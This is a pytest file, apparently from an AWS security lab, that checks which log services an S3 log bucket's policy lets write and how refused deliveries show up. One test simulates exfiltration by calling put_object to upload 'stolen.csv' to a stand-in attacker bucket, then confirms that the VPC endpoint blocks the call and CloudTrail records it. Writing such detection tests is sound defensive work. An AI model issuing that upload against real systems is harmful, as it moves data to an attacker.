"""Whether the log bucket's policy lets each service write, and what is delivered when it does not."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from lab_env import Lab, scenario

LOGS, DATA, ACCOUNT, REGION = (
    scenario.LOG_BUCKET,
    scenario.TRAINING_BUCKET,
    scenario.ACCOUNT,
    scenario.REGION,
)
TRAIL, FLOWS, ACCESS = "cloudtrail.amazonaws.com", "delivery.logs.amazonaws.com", "logging.s3.amazonaws.com"
ALL = {"CloudTrail", "VPC flow log", "S3 access log"}
OWNED = {"s3:x-amz-acl": "bucket-owner-full-control"}
TRAIL_ARN = f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/meridian"


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    """The end of chapter 06 with all three logs on; CloudTrail asks for a policy when the trail is made."""
    opened = Lab.start(11)
    s3, trail, ec2 = (boto3.client(name) for name in ("s3", "cloudtrail", "ec2"))
    s3.create_bucket(Bucket=LOGS)
    put([statement(TRAIL), statement(FLOWS), statement(ACCESS), acl()])
    trail.create_trail(Name="meridian", S3BucketName=LOGS)
    data = {"Type": "AWS::S3::Object", "Values": [f"arn:aws:s3:::{DATA}/"]}
    selector = {"ReadWriteType": "All", "IncludeManagementEvents": False, "DataResources": [data]}
    trail.put_event_selectors(TrailName="meridian", EventSelectors=[selector])
    trail.start_logging(Name="meridian")
    ec2.create_flow_logs(
        ResourceIds=[opened.names.vpc],
        ResourceType="VPC",
        TrafficType="ALL",
        LogDestinationType="s3",
        LogDestination=f"arn:aws:s3:::{LOGS}",
    )
    target = {"LoggingEnabled": {"TargetBucket": LOGS, "TargetPrefix": "access/"}}
    s3.put_bucket_logging(Bucket=DATA, BucketLoggingStatus=target)
    yield opened
    opened.stop()


def statement(service: str, effect: str = "Allow", **condition: Any) -> dict[str, Any]:
    """One rule for one log service."""
    said = {
        "Effect": effect,
        "Principal": {"Service": service},
        "Action": "s3:PutObject",
        "Resource": f"arn:aws:s3:::{LOGS}/*",
    }
    return said | ({"Condition": condition} if condition else {})


def acl() -> dict[str, Any]:
    return {
        "Effect": "Allow",
        "Principal": {"Service": TRAIL},
        "Action": "s3:GetBucketAcl",
        "Resource": f"arn:aws:s3:::{LOGS}",
    }


def put(rules: list[dict[str, Any]]) -> None:
    document = json.dumps({"Version": "2012-10-17", "Statement": rules})
    boto3.client("s3").put_bucket_policy(Bucket=LOGS, Policy=document)


def read(lab: Lab) -> None:
    """One read from subnet A."""
    groups = [lab.names.training_security_group]
    with lab.session_in(lab.names.subnet_a, role=scenario.TRAINING_ROLE, security_groups=groups) as inside:
        inside.client("s3").get_object(Bucket=DATA, Key="train/2025-01.csv")


AS_DOCUMENTED = [
    acl(),
    statement(TRAIL, StringEquals={**OWNED, "aws:SourceArn": TRAIL_ARN}),
    statement(
        FLOWS,
        StringEquals={**OWNED, "aws:SourceAccount": ACCOUNT},
        ArnLike={"aws:SourceArn": f"arn:aws:logs:{REGION}:{ACCOUNT}:*"},
    ),
    statement(
        ACCESS,
        ArnLike={"aws:SourceArn": f"arn:aws:s3:::{DATA}"},
        StringEquals={"aws:SourceAccount": ACCOUNT},
    ),
]
TLS_ONLY = {
    "Effect": "Deny",
    "Principal": "*",
    "Action": "s3:*",
    "Resource": [f"arn:aws:s3:::{LOGS}", f"arn:aws:s3:::{LOGS}/*"],
    "Condition": {"Bool": {"aws:SecureTransport": "false"}},
}
ANOTHER = {"aws:SourceArn": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/another"}
OTHERS_DATA = {"aws:SourceArn": "arn:aws:s3:::another-bucket"}
OTHERS_ACCOUNT = {"aws:SourceAccount": "999988887777"}


@pytest.mark.parametrize(
    ("rules", "refused"),
    [
        ([statement(TRAIL), statement(FLOWS), statement(ACCESS)], set()),
        (AS_DOCUMENTED, set()),
        ([*AS_DOCUMENTED, TLS_ONLY], set()),
        ([statement(FLOWS), statement(ACCESS)], {"CloudTrail"}),
        ([statement(TRAIL), statement(ACCESS)], {"VPC flow log"}),
        ([statement(TRAIL), statement(FLOWS)], {"S3 access log"}),
        ([*AS_DOCUMENTED, statement(TRAIL, "Deny")], {"CloudTrail"}),
        ([statement(TRAIL, StringEquals=ANOTHER), statement(FLOWS), statement(ACCESS)], {"CloudTrail"}),
        ([statement(TRAIL), statement(FLOWS), statement(ACCESS, ArnLike=OTHERS_DATA)], {"S3 access log"}),
        (
            [statement(TRAIL), statement(FLOWS, StringEquals=OTHERS_ACCOUNT), statement(ACCESS)],
            {"VPC flow log"},
        ),
    ],
)
def test_who_may_write(lab, rules, refused):
    put(rules)
    read(lab)
    found = list(lab.let_time_pass())
    assert {item.log for item in found} == ALL
    assert {item.log for item in found if item.refused} == refused
    there = {f"s3://{LOGS}/{item['Key']}" for item in listed()}
    assert all((item.place in there) is (not item.refused) for item in found)


def listed() -> list[dict[str, Any]]:
    return boto3.client("s3").list_objects_v2(Bucket=LOGS).get("Contents", [])


def test_nothing_is_delivered_twice_or_without_cause(lab):
    put(AS_DOCUMENTED)
    lab.let_time_pass()
    assert list(lab.let_time_pass()) == []


def test_a_denial_by_the_endpoint_is_a_network_activity_event(lab):
    """*Logging network activity events*: the endpoint's owner hears of it, whoever calls.

    The job's own call is refused by its role before, and is none.
    """
    put(AS_DOCUMENTED)
    fields = {
        "eventCategory": ["NetworkActivity"],
        "eventSource": ["s3.amazonaws.com"],
        "errorCode": ["VpceAccessDenied"],
    }
    boto3.client("cloudtrail").put_event_selectors(
        TrailName="meridian",
        AdvancedEventSelectors=[
            {"FieldSelectors": [{"Field": name, "Equals": value} for name, value in fields.items()]}
        ],
    )
    lab.let_time_pass()
    where = {"subnet": lab.names.subnet_a, "security_groups": [lab.names.training_security_group]}
    for keys in (lab.keys(scenario.TRAINING_ROLE), lab.attacker.keys):
        with lab.session_in(**where, keys=keys) as inside, suppress(ClientError):
            inside.client("s3").put_object(Bucket=scenario.ATTACKER_BUCKET, Key="stolen.csv", Body=b"x")
    delivered = [item for item in lab.let_time_pass() if item.log == "CloudTrail"]
    events = [event for item in delivered for event in records(item.place)]
    assert [(event["eventName"], event["errorCode"], event["eventType"]) for event in events] == [
        ("PutObject", "VpceAccessDenied", "AwsVpceEvent")
    ]
    (event,) = events
    assert event["errorMessage"] == "The request was denied due to a VPC endpoint policy"
    assert event["userIdentity"].keys() == {"type", "principalId", "accountId"}
    assert event["userIdentity"]["accountId"] == scenario.ATTACKER_ACCOUNT
    assert event["vpcEndpointId"] == lab.names.s3_endpoint
    assert event["requestParameters"]["bucketName"] == scenario.ATTACKER_BUCKET


def records(place: str) -> list[dict[str, Any]]:
    bucket, _, key = place.removeprefix("s3://").partition("/")
    body = boto3.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()
    return list(json.loads(gzip.decompress(body))["Records"])
